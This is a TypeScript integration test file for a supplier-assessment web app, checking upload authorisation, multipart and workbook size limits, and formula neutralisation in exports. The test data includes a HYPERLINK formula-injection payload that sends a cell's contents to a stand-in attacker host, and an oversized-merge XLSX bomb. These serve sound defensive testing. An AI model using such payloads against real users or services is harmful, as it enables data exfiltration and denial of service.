import ExcelJS from 'exceljs';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import request from 'supertest';
import { readZip, withPart, writeZip } from '../../libs/guidelines/src/import/testing/zip';
import { launchCampaign, makeNetwork, metiStar3Ids } from '../support/campaign-fixtures';
import { countRows, makeOrg, makeUser, PASSWORD } from '../support/factories';
import { pollUntil } from '../support/poll';
import { browser, createTestApp, type TestApp, type TestBrowser } from '../support/test-app';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
const DECLARATION = { declaration: { name: '山田 太郎', title: '代表取締役', date: '2026-11-24' } };
const EVIDENCE_MAX = 1024 * 1024;

/** Cookie header and CSRF token of a signed-in user, for requests made without supertest. */
async function rawSession(t: TestApp, email: string): Promise<{ cookie: string; csrf: string }> {
  const server = t.app.getHttpServer();
  const cookies = new Map<string, string>();
  const keep = (res: request.Response) => {
    const set = res.headers['set-cookie'] as unknown as string[] | undefined;
    for (const c of set ?? []) {
      const [pair] = c.split(';');
      const at = pair!.indexOf('=');
      cookies.set(pair!.slice(0, at), pair!.slice(at + 1));
    }
  };
  const header = () => [...cookies].map(([k, v]) => `${k}=${v}`).join('; ');
  const csrfRes = await request(server).get('/api/auth/csrf').expect(200);
  keep(csrfRes);
  const csrf = (csrfRes.body as { token: string }).token;
  keep(
    await request(server)
      .post('/api/auth/login')
      .set('Cookie', header())
      .set('X-CSRF-Token', csrf)
      .send({ email, password: PASSWORD })
      .expect(200),
  );
  return { cookie: header(), csrf };
}

interface UnreadAnswer {
  status: number;
  contentType: string;
  connection: string;
  body: { code?: string };
  /** Body bytes this client had written when the answer arrived. */
  bytesSent: number;
  /** Body bytes it announced in Content-Length. */
  bytesDeclared: number;
  /** The server closed the connection instead of reading the rest. */
  closed: boolean;
}

/**
 * Starts a multipart upload announcing `declared` bytes, writes only the part headers and the first 64 KiB,
 * and waits (bounded) for the answer. An answer can only come from a server that decided without the body.
 */
async function uploadWithoutBody(
  t: TestApp,
  path: string,
  session: { cookie: string; csrf: string },
  declared: number,
): Promise<UnreadAnswer> {
  const boundary = 'tierstar-unread-boundary';
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.png"\r\n` +
      'Content-Type: image/png\r\n\r\n',
  );
  const first = Buffer.concat([head, PNG, Buffer.alloc(64 * 1024 - PNG.length)]);
  const req = httpRequest(`${t.url}${path}`, {
    method: 'POST',
    headers: {
      cookie: session.cookie,
      'x-csrf-token': session.csrf,
      'content-type': `multipart/form-data; boundary=${boundary}`,
      'content-length': String(declared),
    },
  });
  let answer: IncomingMessage | undefined;
  let closed = false;
  req.on('response', (res) => (answer = res));
  req.on('error', () => (closed = true));
  req.on('close', () => (closed = true));
  req.write(first);
  const res = await pollUntil(() => Promise.resolve(answer), 10_000, 10).catch(() => {
    req.destroy();
    throw new Error(`no answer to ${path} before its body was sent: the server waited for the body`);
  });
  const chunks: Buffer[] = [];
  for await (const c of res) chunks.push(c as Buffer);
  await pollUntil(() => Promise.resolve(closed), 10_000, 10).catch(() => undefined);
  req.destroy();
  return {
    status: res.statusCode ?? 0,
    contentType: String(res.headers['content-type']),
    connection: String(res.headers['connection']),
    body: JSON.parse(Buffer.concat(chunks).toString('utf8')) as { code?: string },
    bytesSent: first.length,
    bytesDeclared: declared,
    closed,
  };
}

const csrfOf = (client: TestBrowser) => (client as unknown as { csrf: string }).csrf;
const multipart = (client: TestBrowser, path: string) =>
  client.agent.post(path).set('X-CSRF-Token', csrfOf(client)).set('Accept-Language', 'en');

describe('input limits: uploads are authorised before their body is read, and bounded', () => {
  let t: TestApp;
  const ids = metiStar3Ids();
  let stranger: { cookie: string; csrf: string };
  let strangerClient: TestBrowser;
  let strangerOrgId: string;
  let respondentB: TestBrowser;
  let respondentBEmail: string;
  /** An editable assessment (supplier B). */
  let openAssessment: string;
  /** A remediation item of supplier A's submitted assessment. */
  let itemId: string;
  let respondentA: TestBrowser;
  let buyer: TestBrowser;
  let buyerOrgId: string;
  /** Supplier A's name, chosen by whoever signed the supplier up: a formula in full-width characters. */
  const EVIL_NAME = '＝HYPERLINK("https://evil.example/?"&A1,"詳細")';

  beforeAll(async () => {
    t = await createTestApp({ ROLE: 'api', EVIDENCE_MAX_BYTES: String(EVIDENCE_MAX) });
    const net = await makeNetwork(t.db, 2);
    buyer = await (await browser(t)).login(net.procurement.email, PASSWORD);
    const campaignId = await launchCampaign(buyer, net.buyer.id);
    const assessmentOf = async (supplierId: string) =>
      (
        await t.db.query<{ id: string }[]>(
          'SELECT id FROM assessments WHERE campaign_id = $1 AND supplier_id = $2',
          [campaignId, supplierId],
        )
      )[0]!.id;
    const [a, b] = net.suppliers;
    buyerOrgId = net.buyer.id;
    await t.db.query('UPDATE organizations SET name = $1 WHERE id = $2', [EVIL_NAME, a!.org.id]);
    const userA = await makeUser(t.db, a!.org, 'respondent');
    const userB = await makeUser(t.db, b!.org, 'respondent');
    respondentBEmail = userB.email;
    respondentA = await (await browser(t)).login(userA.email, PASSWORD);
    respondentB = await (await browser(t)).login(userB.email, PASSWORD);
    openAssessment = await assessmentOf(b!.org.id);

    // Supplier A answers ★3 with one gap and submits: one remediation item.
    const submittedId = await assessmentOf(a!.org.id);
    for (const id of ids) {
      await respondentA
        .put(`/api/assessments/${submittedId}/answers/${encodeURIComponent(id)}`, {
          value: id === ids[0] ? 'not_met' : 'met',
          baseVersion: 0,
        })
        .expect(200);
    }
    await respondentA.post(`/api/assessments/${submittedId}/submit`, DECLARATION).expect(204);
    itemId = (await respondentA.get('/api/my/remediation').expect(200)).body.items[0].id;

    // A stranger: the admin of an organization of their own, nothing to do with the others.
    const org = await makeOrg(t.db);
    strangerOrgId = org.id;
    const user = await makeUser(t.db, org, 'admin');
    stranger = await rawSession(t, user.email);
    strangerClient = await (await browser(t)).login(user.email, PASSWORD);
  });
  afterAll(async () => {
    await t?.close();
  });

  describe("a stranger's upload to someone else's assessment is refused without reading the body", () => {
    const routes = () => [
      {
        what: 'evidence',
        path: `/api/assessments/${openAssessment}/answers/${encodeURIComponent(ids[1]!)}/evidence`,
        declared: EVIDENCE_MAX - 1024,
      },
      {
        what: 'remediation evidence',
        path: `/api/remediation/${itemId}/evidence`,
        declared: EVIDENCE_MAX - 1024,
      },
      {
        what: 'workbook import',
        path: `/api/assessments/${openAssessment}/import`,
        declared: 4 * 1024 * 1024,
      },
    ];

    it.each([0, 1, 2])(
      'route %#: 404 problem+json while the body is still unsent, connection closed',
      async (i) => {
        const route = routes()[i]!;
        const before = await countRows(t.db, 'evidence_files');
        const answer = await uploadWithoutBody(t, route.path, stranger, route.declared);
        expect({ what: route.what, status: answer.status, code: answer.body.code }).toEqual({
          what: route.what,
          status: 404,
          code: 'NOT_FOUND',
        });
        expect(answer.contentType).toContain('application/problem+json');
        expect(answer.bytesSent).toBeLessThan(answer.bytesDeclared / 10);
        // The server does not go on reading (and discarding) the rest of the stranger's body.
        expect(answer.connection).toBe('close');
        expect(answer.closed).toBe(true);
        expect(await countRows(t.db, 'evidence_files')).toBe(before);
      },
    );

    it('the same uploads by their owners still work', async () => {
      const evidence = await multipart(
        respondentB,
        `/api/assessments/${openAssessment}/answers/${encodeURIComponent(ids[1]!)}/evidence`,
      )
        .attach('file', PNG, 'shot.png')
        .expect(201);
      expect(evidence.body.mediaType).toBe('image/png');
      await multipart(respondentA, `/api/remediation/${itemId}/evidence`)
        .attach('file', PNG, 'fix.png')
        .expect(201);
      const exported = await respondentB.agent
        .get(`/api/assessments/${openAssessment}/export.xlsx`)
        .buffer(true)
        .parse((r, cb) => {
          const chunks: Buffer[] = [];
          r.on('data', (c: Buffer) => chunks.push(c));
          r.on('end', () => cb(null, Buffer.concat(chunks)));
        })
        .expect(200);
      const imported = await multipart(respondentB, `/api/assessments/${openAssessment}/import`)
        .attach('file', exported.body as Buffer, 'self.xlsx')
        .expect(200);
      expect(imported.body.applied).toBe(0);
    });

    it('a non-member of the organization is refused unread on org upload routes too (route guard)', async () => {
      const respondent = await rawSession(t, respondentBEmail);
      for (const path of [
        `/api/orgs/${strangerOrgId}/catalogues/import`,
        `/api/orgs/${strangerOrgId}/suppliers/import`,
      ]) {
        const answer = await uploadWithoutBody(t, path, respondent, 2 * 1024 * 1024 - 1024);
        expect([path, answer.status, answer.body.code, answer.connection, answer.closed]).toEqual([
          path,
          404,
          'NOT_FOUND',
          'close',
          true,
        ]);
      }
    });
  });

  describe('multipart limits', () => {
    const evidencePath = () =>
      `/api/assessments/${openAssessment}/answers/${encodeURIComponent(ids[2]!)}/evidence`;

    it('refuses text fields on a file-only route, a second file and a file under another name', async () => {
      const before = await countRows(t.db, 'evidence_files');
      const withField = await multipart(respondentB, evidencePath())
        .field('note', 'x')
        .attach('file', PNG, 'a.png');
      expect([withField.status, withField.body.code]).toEqual([400, 'UPLOAD_INVALID']);
      expect(withField.body.detail).toBeDefined();
      const twoFiles = await multipart(respondentB, evidencePath())
        .attach('file', PNG, 'a.png')
        .attach('file', PNG, 'b.png');
      expect([twoFiles.status, twoFiles.body.code]).toEqual([400, 'UPLOAD_INVALID']);
      const otherName = await multipart(respondentB, evidencePath()).attach('document', PNG, 'a.png');
      expect([otherName.status, otherName.body.code]).toEqual([400, 'UPLOAD_INVALID']);
      expect(await countRows(t.db, 'evidence_files')).toBe(before);
    });

    it('bounds the number and the size of the catalogue import fields', async () => {
      const path = `/api/orgs/${strangerOrgId}/catalogues/import`;
      const csv = Buffer.from('大分類No.,大分類\n1,a\n');
      const long = await multipart(strangerClient, path)
        .field('catalogueId', 'x'.repeat(300))
        .attach('file', csv, 'a.csv');
      expect([long.status, long.body.code]).toEqual([413, 'UPLOAD_FIELD_TOO_LARGE']);
      const many = await multipart(strangerClient, path)
        .field('format', 'meti-csv')
        .field('catalogueId', 'meti-scs')
        .field('version', '1')
        .field('extra', '1')
        .attach('file', csv, 'a.csv');
      expect([many.status, many.body.code]).toEqual([400, 'UPLOAD_INVALID']);
      expect(await countRows(t.db, 'imported_catalogues')).toBe(0);
    });
  });

  describe('XLSX limits over HTTP', () => {
    it('refuses a catalogue workbook over the limits before exceljs reads it', async () => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet('評価基準').addRow(['大分類No.', '評価基準No.']);
      const parts = await readZip(Buffer.from(await wb.xlsx.writeBuffer()));
      const sheet = parts.find((p) => p.name === 'xl/worksheets/sheet1.xml')!.data.toString('utf8');
      const bomb = sheet.replace(
        '<pageMargins',
        '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells><pageMargins',
      );
      const res = await multipart(strangerClient, `/api/orgs/${strangerOrgId}/catalogues/import`).attach(
        'file',
        writeZip(withPart(parts, 'xl/worksheets/sheet1.xml', bomb)),
        'meti.xlsx',
      );
      expect([res.status, res.body.code]).toEqual([422, 'CATALOGUE_IMPORT_INVALID']);
      expect(res.body.errors).toEqual([
        { field: 'file', message: 'This workbook is too large to read: a sheet has more than 10000 rows.' },
      ]);
      expect(await countRows(t.db, 'imported_catalogues')).toBe(0);
    });

    it('refuses an assessment workbook with too many rows, writing nothing', async () => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet('自己評価').getCell('A20000').value = 'x';
      const before = await countRows(t.db, 'answer_revisions');
      const res = await multipart(respondentB, `/api/assessments/${openAssessment}/import`).attach(
        'file',
        Buffer.from(await wb.xlsx.writeBuffer()),
        'self.xlsx',
      );
      expect([res.status, res.body.code]).toEqual([422, 'WORKBOOK_INVALID']);
      expect(res.body.errors).toEqual([
        {
          field: 'WORKBOOK_LIMITS_EXCEEDED',
          message: 'This workbook is too large to read: a sheet has more than 10000 rows.',
        },
      ]);
      expect(await countRows(t.db, 'answer_revisions')).toBe(before);
    });
  });

  describe('exports', () => {
    const binary = (r: request.Test) =>
      r.buffer(true).parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });

    it('neutralise a formula in a supplier name in the CSV and the XLSX supplier list', async () => {
      const csv = await binary(buyer.get(`/api/orgs/${buyerOrgId}/insights/suppliers.csv?lang=en`)).expect(
        200,
      );
      const text = (csv.body as Buffer).toString('utf8');
      expect(text).toContain(`"'${EVIL_NAME.replace(/"/g, '""')}"`);
      expect(text).not.toMatch(/(^|,)"?＝HYPERLINK/m);

      const xlsx = await binary(buyer.get(`/api/orgs/${buyerOrgId}/insights/suppliers.xlsx?lang=en`)).expect(
        200,
      );
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(new Uint8Array(xlsx.body as Buffer).slice().buffer);
      const names = wb.worksheets[0]!.getColumn(1).values.filter((v) => typeof v === 'string');
      expect(names).toContain(`'${EVIL_NAME}`);
      expect(names).not.toContain(EVIL_NAME);
    });
  });

  describe('removed evidence', () => {
    it('answers 404 on download and is no longer listed', async () => {
      const up = await multipart(
        respondentB,
        `/api/assessments/${openAssessment}/answers/${encodeURIComponent(ids[3]!)}/evidence`,
      )
        .attach('file', PNG, 'removed.png')
        .expect(201);
      const url = `/api/assessments/${openAssessment}/evidence/${up.body.id}`;
      await buyer.get(url).expect(200);
      await respondentB.delete(url).expect(204);
      const gone = await buyer.get(url).expect(404);
      expect(gone.headers['content-type']).toContain('application/problem+json');
      await respondentB.get(url).expect(404);
      const detail = await buyer.get(`/api/assessments/${openAssessment}`).expect(200);
      expect(JSON.stringify(detail.body)).not.toContain(up.body.id);
      // Removing it again is a 404 too, not a silent success.
      await respondentB.delete(url).expect(404);
    });
  });
});
